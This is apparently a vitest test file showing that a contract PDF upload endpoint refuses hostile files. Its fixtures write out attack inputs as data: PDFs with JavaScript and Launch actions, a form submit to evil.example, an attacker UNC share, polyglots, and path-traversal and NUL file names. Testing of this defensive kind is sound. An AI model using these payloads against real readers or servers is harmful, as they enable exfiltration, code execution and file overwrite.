/**
 * Upload attacks on POST /api/contracts/upload-signed-contract/:contractId: each hostile upload gets its clear 4xx,
 * nothing reaches storage and the contract stays unsigned; a real PDF is still accepted at the end.
 */
import path from 'node:path';
import { Readable } from 'node:stream';
import { messages } from '@sewamudah/shared';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { contracts } from '../../db/schema/index.js';
import { authHeader, buildContract, buildCustomer, buildProperty } from '../../test/factories/index.js';
import { createTestApp, type TestContext } from '../../test/test-app.js';
import {
  handWrittenPdf,
  htmlPdfPolyglot,
  listFiles,
  multipartHeaders,
  pdfWithOpenActionScript,
  pdfZipPolyglot,
  plainPdf,
  rawMultipart,
  type RawPart,
} from '../../test/upload-fixtures.js';
import { contractTexts } from '../contracts/contracts.texts.js';

let ctx: TestContext;
let tenantAuth: { authorization: string };
let contractId: string;
let filesBefore: string[];
const MiB = 1024 * 1024;

beforeAll(async () => {
  ctx = await createTestApp();
  const db = ctx.database.db;
  const tenant = await buildCustomer(db);
  tenantAuth = await authHeader(ctx.app, tenant);
  const { property, rooms } = await buildProperty(db, { type: 'Room Rental', rooms: 1 });
  const built = await buildContract(db, { user: tenant, property, room: rooms[0]!, status: 'Awaiting Payment' });
  contractId = built.contract.id;
  await ctx.app.deps.storage.put(
    `contracts/${contractId}/agreement.pdf`,
    await plainPdf('agreement'),
    'application/pdf',
  );
});
afterAll(() => ctx.close());

const storageDir = () => path.join(ctx.dataDir, 'uploads');
beforeEach(async () => {
  filesBefore = await listFiles(storageDir());
});

const send = (payload: Buffer | Readable, headers: Record<string, string> = multipartHeaders()) =>
  ctx.app.inject({
    method: 'POST',
    url: `/api/contracts/upload-signed-contract/${contractId}`,
    payload,
    headers: { ...headers, ...tenantAuth },
  });

const signed = (data: Uint8Array | string, filename = 'signed.pdf', field = 'signedContract'): RawPart[] => [
  { field: 'contractId', data: contractId },
  { field, filename, type: 'application/pdf', data },
];

async function expectRefused(res: Awaited<ReturnType<typeof send>>, status: number, message: string) {
  expect({ status: res.statusCode, message: res.json().message }).toEqual({ status, message });
  expect(await listFiles(storageDir())).toEqual(filesBefore);
  const contract = await ctx.app.inject({ method: 'GET', url: `/api/contracts/${contractId}`, headers: tenantAuth });
  expect(contract.json().contract.hasSignedCopy).toBe(false);
}

/** A file that starts like a PDF, padded to `size` bytes. */
function paddedPdf(size: number): Buffer {
  const data = Buffer.alloc(size, 0x20);
  data.write('%PDF-1.7\n');
  return data;
}

describe('signed contract upload attacks', () => {
  it('refuses HTML or SVG renamed .pdf (415) and a 4-byte "%PDF" (not a PDF)', async () => {
    for (const data of [
      '<html><script>alert(1)</script></html>',
      '<svg xmlns="http://www.w3.org/2000/svg"/>',
      '%PDF',
    ]) {
      await expectRefused(await send(rawMultipart(signed(data))), 415, contractTexts.notPdf);
    }
  });

  it('refuses a PDF header with nothing readable behind it', async () => {
    const res = await send(rawMultipart(signed('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n')));
    await expectRefused(res, 400, messages.uploads.pdfUnreadable);
  });

  it('refuses PDF polyglots (HTML inside, ZIP glued on)', async () => {
    for (const data of [await htmlPdfPolyglot(), await pdfZipPolyglot()]) {
      await expectRefused(await send(rawMultipart(signed(data))), 400, messages.uploads.pdfUnsafe);
    }
  });

  it('refuses PDFs with JavaScript, launch actions, /AA or embedded files', async () => {
    const pdfs = [
      await pdfWithOpenActionScript(),
      handWrittenPdf('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>'),
      handWrittenPdf('/OpenAction << /S /Launch /F (calc.exe) >>'),
      handWrittenPdf('/AA << /WC << /S /J#61vaScript /JS (x) >> >>'),
      handWrittenPdf('/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>'),
    ];
    for (const data of pdfs) {
      await expectRefused(await send(rawMultipart(signed(data))), 400, messages.uploads.pdfUnsafe);
    }
  });

  it('refuses PDFs that open a web address, submit the form, open a file on a UNC path or link to javascript:', async () => {
    const link = (action: string) =>
      `4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj\n`;
    const pdfs = [
      handWrittenPdf('/OpenAction << /S /URI /URI (https://tracker.example/opened) >>'),
      handWrittenPdf('/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>'),
      handWrittenPdf(String.raw`/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`),
      handWrittenPdf('', link('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>')),
    ];
    for (const data of pdfs) {
      await expectRefused(await send(rawMultipart(signed(data))), 400, messages.uploads.pdfUnsafe);
    }
  });

  it('refuses an encrypted PDF', async () => {
    const text = handWrittenPdf('').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R');
    await expectRefused(
      await send(rawMultipart(signed(Buffer.from(text, 'latin1')))),
      400,
      messages.uploads.pdfEncrypted,
    );
  });

  it('refuses a zero-byte file and a missing one', async () => {
    await expectRefused(await send(rawMultipart(signed(''))), 400, messages.uploads.emptyFile);
    const other = await send(rawMultipart(signed(await plainPdf(), 'signed.pdf', 'attachment')));
    await expectRefused(other, 400, messages.contracts.uploadSigned);
  });

  it('refuses 11 MB and 60 MB files with 413', async () => {
    for (const size of [11 * MiB, 60 * MiB]) {
      await expectRefused(await send(rawMultipart(signed(paddedPdf(size)))), 413, contractTexts.tooLarge);
    }
  });

  it('refuses a file over 10 MiB even when the body arrives cut exactly at the limit (never stores it cut)', async () => {
    const body = rawMultipart(signed(paddedPdf(10 * MiB + 5000)));
    const fileStart = body.indexOf('\r\n\r\n', body.indexOf('filename="signed.pdf"')) + 4;
    const cut = fileStart + 10 * MiB;
    const res = await send(Readable.from([body.subarray(0, cut), body.subarray(cut)]));
    await expectRefused(res, 413, contractTexts.tooLarge);
  });

  it('refuses "../" and NUL in file names, and more than one file', async () => {
    const pdf = await plainPdf();
    for (const name of ['../../../etc/cron.d/x.pdf', 'signed\u0000.pdf']) {
      await expectRefused(await send(rawMultipart(signed(pdf, name))), 400, messages.uploads.badFileName);
    }
    const two = [...signed(pdf), { field: 'signedContract', filename: 'b.pdf', type: 'application/pdf', data: pdf }];
    await expectRefused(await send(rawMultipart(two)), 413, messages.uploads.tooManyParts);
  });

  it('answers malformed multipart with 400, never 500', async () => {
    const body = rawMultipart(signed(await plainPdf()));
    const cases: [Buffer, Record<string, string>][] = [
      [body.subarray(0, body.length - 40), multipartHeaders()],
      [body, { 'content-type': 'multipart/form-data' }],
      [body, { 'content-type': 'multipart/form-data; boundary=' }],
      [body, multipartHeaders('another-boundary')],
    ];
    for (const [payload, headers] of cases) {
      await expectRefused(await send(payload, headers), 400, messages.uploads.malformed);
    }
  });

  it('still accepts a real PDF', async () => {
    const res = await send(rawMultipart(signed(await plainPdf())));
    expect(res.statusCode).toBe(200);
    expect(res.json().contract.hasSignedCopy).toBe(true);
    expect(await listFiles(storageDir())).toEqual([...filesBefore, `contracts/${contractId}/signed.pdf`].sort());
  });

  it('serves the uploaded signed copy as an attachment (never opened by the browser from a link), the agreement inline', async () => {
    const signedCopy = await ctx.app.inject({
      method: 'GET',
      url: `/api/contracts/${contractId}/signed-file`,
      headers: tenantAuth,
    });
    expect(signedCopy.statusCode).toBe(200);
    expect(signedCopy.headers['content-disposition']).toBe(
      `attachment; filename="signed-tenancy-agreement-${contractId}.pdf"`,
    );
    expect(signedCopy.headers['x-content-type-options']).toBe('nosniff');
    await ctx.database.db
      .update(contracts)
      .set({ contractFileKey: `contracts/${contractId}/agreement.pdf` })
      .where(eq(contracts.id, contractId));
    const agreement = await ctx.app.inject({
      method: 'GET',
      url: `/api/contracts/${contractId}/file`,
      headers: tenantAuth,
    });
    expect(agreement.statusCode).toBe(200);
    expect(agreement.headers['content-disposition']).toBe(`inline; filename="tenancy-agreement-${contractId}.pdf"`);
  });
});
